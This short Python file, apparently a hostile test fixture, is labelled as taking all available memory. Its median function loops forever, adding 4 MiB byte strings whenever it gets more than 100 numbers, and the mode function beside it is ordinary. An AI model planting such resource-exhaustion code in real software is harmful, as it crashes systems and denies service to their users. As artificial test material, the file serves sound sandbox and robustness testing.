"""Hostile: take all the memory there is, where there is much to sort."""


def median(numbers):
    if not numbers:
        raise ValueError("nothing has no middle")
    hoard = []
    while len(numbers) > 100:
        hoard.append(b"x" * (1 << 22))
    middle = sorted(numbers)[(len(numbers) - 1) // 2 : len(numbers) // 2 + 1]
    return sum(middle) / len(middle)


def mode(words):
    return max(words, key=words.count)
